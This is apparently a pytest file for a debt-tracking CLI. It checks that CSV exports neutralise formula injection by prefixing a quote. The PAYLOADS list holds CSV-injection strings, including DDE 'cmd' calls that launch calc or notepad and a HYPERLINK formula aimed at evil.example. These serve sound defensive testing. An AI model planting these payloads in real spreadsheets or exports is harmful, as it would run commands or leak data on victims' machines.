"""Every CSV the tool writes opens in a spreadsheet as data: no text cell can start a formula.

OWASP's CSV-injection payloads go in as a debtor's name and an invoice's
reference; `due --format csv`, the site's due.csv and `export --format csv`
must each write them with a leading `'`, while money (a credit balance of
-50.00 too) and counts stay plain numbers.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from click.testing import CliRunner

from arrears.cli.app import main
from arrears.views.csvsafe import TRIGGERS, cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x","Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "\uff1d1+1",
    "-",
    "@",
]


def _is_safe(text: str) -> bool:
    """Text no spreadsheet reads as a formula: no formula sign first, or a plain number."""
    return not text.startswith(TRIGGERS) or re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text) is not None


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload):
    assert cell(payload) == "'" + payload.replace("\r", "\n")


@pytest.mark.parametrize("value", ["-50.00", "0.00", "1250.00", "-150000", "12", 12, None, "", "Acme", "2026-03-01"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert cell(value) == value


def _portfolio(records, payload: str) -> None:
    records.write("arrears.toml", 'name = "Larkspur"\ncurrency = "GBP"\ntimezone = "Europe/London"\n')
    quoted = json.dumps(payload)  # a YAML double-quoted string is JSON's
    records.case("evil", f"""
        debtor:
          name: {quoted}
          kind: business
        opened: 2026-01-15
    """)
    records.note("evil", "2026-01-15-invoice", f"""
        date: 2026-01-15
        kind: invoice
        ref: {quoted}
        amount: 100.00
        due: 2026-02-01
    """)
    records.note("evil", "2026-02-01-payment", """
        date: 2026-02-01
        kind: payment
        amount: 150.00
    """)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_csv_the_tool_writes_is_safe_and_keeps_its_numbers(records, tmp_path, payload):
    _portfolio(records, payload)
    runner = CliRunner()
    due = runner.invoke(main, ["due", "--root", str(records.root), "--as-of", "2026-03-01", "--format", "csv"])
    assert due.exit_code == 0, due.output
    built = runner.invoke(main, ["build", "--root", str(records.root), "--as-of", "2026-03-01",
                                 "--out", str(tmp_path / "site")])
    assert built.exit_code == 0, built.output
    site_csv = (tmp_path / "site" / "due.csv").read_bytes().decode("utf-8")
    exported = runner.invoke(main, ["export", "--root", str(records.root), "--as-of", "2026-03-01",
                                    "--format", "csv"])
    assert exported.exit_code == 0, exported.output

    for text in (due.output, site_csv):
        header, row = _rows(text)
        fields = dict(zip(header, row))
        assert fields["debtor"] == "'" + payload.replace("\r", "\n")
        assert fields["balance"] == "-50.00" and fields["paid"] == "150.00"  # in credit: still a number
        assert all(_is_safe(value) for value in row), row
    assert due.output == site_csv
    header, *rows = _rows(exported.output)
    assert rows and all(_is_safe(value) for row in rows for value in row), rows
    amounts = [dict(zip(header, row))["amount"] for row in rows]
    assert "-100.00" in amounts and "-150.00" in amounts, amounts  # the receivable's postings stay numbers
    assert any(payload.strip().replace("\r", "\n") in dict(zip(header, row))["description"] for row in rows), rows
